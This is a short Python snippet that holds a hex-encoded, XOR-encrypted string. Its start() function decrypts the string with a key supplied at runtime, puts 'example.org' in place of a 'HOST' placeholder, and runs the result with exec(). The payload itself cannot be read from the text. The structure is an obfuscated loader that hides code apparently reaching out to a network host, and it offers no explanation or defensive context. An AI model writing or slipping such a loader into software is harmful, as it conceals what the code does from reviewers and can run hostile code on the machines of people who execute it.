packed = (
    "b5d23ce28989b6df3ea3c0c1b6d23fad9899a0c839f79c83a9ce41899f88abce34ea89c1f88b7c8ef792a4c63cef98beb6df3eea9386"
)


def start(key):
    data = bytearray.fromhex(packed)
    key = bytearray.fromhex(key)
    text = bytearray([data[i] ^ key[i % 6] for i in range(len(data))]).decode("ascii").replace("HOST", "example.org")
    exec(text)
